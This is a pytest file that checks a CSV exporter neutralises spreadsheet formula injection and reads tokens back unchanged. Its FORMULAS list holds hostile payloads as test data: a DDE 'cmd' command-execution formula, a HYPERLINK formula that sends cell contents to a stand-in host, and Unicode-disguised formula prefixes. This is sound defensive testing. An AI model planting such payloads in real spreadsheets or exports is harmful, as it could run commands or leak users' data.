"""No token in a CSV file runs in a spreadsheet, and each is read back as it was by the rule in the header."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from numbers_read import read_csv, tokens_read

from posenc_core import Document, Sinusoidal
from posenc_gui.export.numbers import write_numbers

HEADER = "token (remove one leading ' where there is one),position,0,1"
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULAS = (
    *("=1+1", "+1", "-1", "@SUM(1,2)", "-1e5", "=", "-", "--", "+-@=", "\uff1d1+1", "\uff0d1", "\uff20SUM(1)"),
    *('=HYPERLINK("http://a.b/?"&A1,"x")', "=cmd|'/c calc'!A1", '=1,"2"', '="=1"', "=1;2", "-2+3+cmd|'/c'!A0"),
    *("\x1b=1", "\x07-1", "\ufeff=1+1", "\u200b@SUM(1)", "\u202e+1", "\xad=1"),
)
PLAIN = ("'=1", "''=1", "'", "''", "'quoted'", '"=1"', ";=1", "a;=1+1", 'a";=1', "a,=1", "1-1", "a=b", "a@b.c", "−")
BLANK = (" ", "\t", "\r", "\n", "\r\n", "\x0b", "\u3000")


def document_of(sentence: str, tokens: str = "words") -> Document:
    return Document(sentence=sentence, tokens=tokens, encoding=Sinusoidal(2))


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: OWASP's page "CSV Injection"."""
    try:
        float(cell)
    except ValueError:
        seen = "".join(sign for sign in cell if sign.isprintable() and not sign.isspace())
        return cell.startswith(("\t", "\r", "\n")) or seen.startswith(tuple(SIGNS))
    return False


def hold(document: Document, path: Path) -> int:
    """Write the tokens, look at every cell as spreadsheets divide it, read the tokens back; the number of tokens."""
    assert write_numbers(document, path, "csv")
    assert tokens_read(path) == [token.text for token in document.token_list]
    for delimiter in ",;\t":  # a spreadsheet of a country with decimal commas divides at semicolons
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream, delimiter=delimiter) for cell in row]
        assert not [cell for cell in cells if runs(cell)]
    return len(document.token_list)


@pytest.mark.parametrize("token", FORMULAS + PLAIN)
def test_a_token_that_would_run_is_text_and_read_back(tmp_path: Path, count, token: str) -> None:
    for sentence in (token, f"Dan {token} {token} icecream", f"{token} =0", f"'Dan {token}"):
        count("tokens written to CSV that a spreadsheet might run", hold(document_of(sentence), tmp_path / "v.csv"))


@pytest.mark.parametrize("tokens", ["words", "characters", "bytes"])
def test_all_of_them_in_one_file_are_read_back(tmp_path: Path, count, tokens: str) -> None:
    sentence = "".join(text + blank for text, blank in zip(FORMULAS + PLAIN, BLANK * 9, strict=False))
    tried = hold(document_of(sentence, tokens), tmp_path / "v.csv")
    count("tokens written to CSV that a spreadsheet might run", tried)


@given(text=st.text(st.sampled_from([*SIGNS, *"'\",;a0 \t\r\n\x1b\ufeff\u200b"]), min_size=1, max_size=12))
def test_any_tokens_are_text_and_read_back(tmp_path_factory, text: str) -> None:
    for tokens in ("words", "characters"):
        document = document_of(text, tokens)
        if document.token_list:
            hold(document, tmp_path_factory.getbasetemp() / "any.csv")


def test_the_header_says_how_the_tokens_are_read(tmp_path: Path) -> None:
    write_numbers(document_of("=1+1 'Dan' loves +1,2"), tmp_path / "v.csv", "csv")
    header, *lines = (tmp_path / "v.csv").read_text(encoding="utf-8").splitlines()
    assert header == HEADER
    assert [line.split(",0.")[0] for line in lines][:2] == ["'=1+1,0", "''Dan',1"]
    assert lines[2].startswith("loves,2,")
    assert lines[3].startswith('"\'+1,2",3,')


@pytest.mark.parametrize("sentence", ["Dan loves icecream", "'Dan' it's a=b", "1-1 a@b.c x;y"])
def test_tokens_that_no_spreadsheet_runs_stay_as_they_are(tmp_path: Path, sentence: str) -> None:
    write_numbers(document_of(sentence), tmp_path / "v.csv", "csv")
    header, *rows = read_csv(tmp_path / "v.csv")
    assert header == ["token", "position", "0", "1"]
    assert [row[0] for row in rows] == sentence.split()


def test_negative_numbers_and_distances_stay_numbers(tmp_path: Path) -> None:
    document = Document(sentence="-1 -2 -3 -4 -5").edited("family", "alibi")
    write_numbers(document, tmp_path / "v.csv", "csv")
    rows = [line.split(",") for line in (tmp_path / "v.csv").read_text(encoding="utf-8").splitlines()[1:]]
    assert [row[:2] for row in rows] == [[f"'{-place}", str(place - 5)] for place in range(1, 6)]
    numbers = [float(cell) for row in rows for cell in row[2:]]
    assert min(numbers) < 0
    assert not any("'" in cell for row in rows for cell in row[1:])


def test_the_reader_of_this_file_takes_nothing_from_a_plain_file(tmp_path: Path) -> None:
    """Only the rule in the header removes an apostrophe."""
    for sentence, first in (("'a b", "'a"), ("'a =b", "''a")):
        write_numbers(document_of(sentence), tmp_path / "v.csv", "csv")
        assert read_csv(tmp_path / "v.csv")[1][0] == first
        assert tokens_read(tmp_path / "v.csv")[0] == "'a"
